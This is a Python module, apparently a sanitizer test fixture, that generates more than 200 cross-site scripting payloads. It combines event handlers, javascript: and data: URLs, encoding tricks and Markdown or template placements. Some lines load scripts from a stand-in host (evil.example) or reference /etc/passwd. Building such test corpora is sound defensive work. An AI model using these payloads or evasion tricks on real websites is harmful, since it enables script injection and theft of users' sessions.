"""Texts that try to become code: more than 200, by family. Each calls ALERT in one way or another."""

from itertools import product

_CALLS = ["alert(1)", "alert`1`", "top[`al`+`ert`](1)", "&#97;lert(1)", "\\u0061lert(1)"]
_HANDLERS = [
    *("<img src=x onerror={}>", "<svg onload={}>", "<svg/onload={}>", "<body onload={}>", "<details open ontoggle={}>"),
    *("<input autofocus onfocus={}>", "<video><source onerror={}></video>", "<audio src=x onerror={}>"),
    *(
        "<marquee onstart={}>x</marquee>",
        "<a href=# onclick={}>x</a>",
        "<p onmouseover={}>x</p>",
        "<select onfocus={}>",
    ),
    *("<object onerror={}>", "<iframe onload={}>", "<img/src=x/onerror={}>", "<IMG SRC=x OnErRoR={}>"),
    *("<math><mi onclick={}>x</mi></math>", "<style onload={}></style>", "<form onsubmit={}><button>x</button></form>"),
    *("<div onpointerenter={} style=position:fixed;inset:0>x</div>", '"><img src=x onerror={}>', "'><svg onload={}>"),
    *("</title><svg onload={}>", "</textarea><svg onload={}>", "--><svg onload={}>", "]]><svg onload={}>"),
]
_SCHEMES = [
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "&#106;avascript:alert(1)"),
    *("javascript&colon;alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)", "vbscript:msgbox(1)"),
    *("data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    *("javascript://%0aalert(1)", "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "file:///etc/passwd"),
]
_PLACES = [
    *("[x]({})", "[x](<{}>)", "![x]({})", "<{}>", '<a href="{}">x</a>', '<form action="{}"><button>x</button></form>'),
    *('<iframe src="{}"></iframe>', "[x][1]\n\n[1]: {}"),
]
_OTHERS = [
    *("<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>"),
    *(
        "<script/x>alert(1)</script>",
        "<script\n>alert(1)</script>",
        "<<script>alert(1)//<</script>",
        "<scr<script>ipt>alert(1)",
    ),
    *("<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>"),
    *("<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(javascript:alert(1))}</style>"),
    *("<embed src=//evil.example/x.swf>", "<object data=javascript:alert(1)></object>", "<applet code=x></applet>"),
    *("<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>"),
    *(
        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
        "<math href=javascript:alert(1)>x</math>",
    ),
    *(
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<template><script>alert(1)</script></template>",
    ),
    *("<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext><script>alert(1)</script>", "<frameset onload=alert(1)>"),
    *(
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
        "<?xml x?><svg onload=alert(1)>",
    ),
    *("`<img src=x onerror=alert(1)>`", "    <script>alert(1)</script>", "```html\n<script>alert(1)</script>\n```"),
    *('```"><img src=x onerror=alert(1)>\nx\n```', "[<img src=x onerror=alert(1)>](https://a.example)"),
    *('[x](https://a.example "onmouseover=alert(1)")', '[x](https://a.example/"onmouseover="alert(1))'),
    *(
        '[["><img src=x onerror=alert(1)>]]',
        "[[devops/ci-cd|<img src=x onerror=alert(1)>]]",
        "[[tool:javascript:alert(1)]]",
    ),
    *("{{ 7|add:7 }}{% load x %}", "{% include '/etc/passwd' %}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>"),
    *(
        "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| b | c |",
        "# <svg onload=alert(1)>",
        "> <script>alert(1)</script>",
    ),
    *("- <img src=x onerror=alert(1)>", "x[^1]\n\n[^1]: <script>alert(1)</script>", "*[x]: <script>alert(1)</script>"),
    *("{: onclick=alert(1) }", 'x {: onclick="alert(1)" style="x" }', '## x {#"><svg onload=alert(1)>}'),
    *("\u202e<script>alert(1)</script>", "\ufeff<script>alert(1)</script>", "＜script＞alert(1)＜/script＞"),
    *("%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)"),
    *(
        "<img src=`javascript:alert(1)`>",
        "<img srcset='x 1x' onerror=alert(1)>",
        "<img src=x:x onerror=\\u0061lert(1)>",
    ),
    *(
        "<a href=javas\ncript:alert(1)>x</a>",
        "<a href='https://a.example' target=_blank>x</a>",
        "<p style=behavior:url(x)>",
    ),
    *("<button formaction=javascript:alert(1)>x</button>", "<input type=image src=x onerror=alert(1)>"),
    *("<details><summary onclick=alert(1)>x</summary></details>", "<dialog open onclose=alert(1)>x</dialog>"),
    *("<p data-hx-get=/admin/ data-hx-trigger=load>x</p>", "<p hx-get=//evil.example hx-trigger=load>x</p>"),
    *(
        "<p hx-on:click=alert(1)>x</p>",
        "<div id=main data-suggest=x>x</div>",
        "<p class=\"needs-js\" hx-vals='js:alert(1)'>x",
    ),
]
VECTORS = list(
    dict.fromkeys(
        [handler.format(call) for handler, call in product(_HANDLERS, _CALLS)]
        + [place.format(scheme) for place, scheme in product(_PLACES, _SCHEMES)]
        + _OTHERS
    )
)
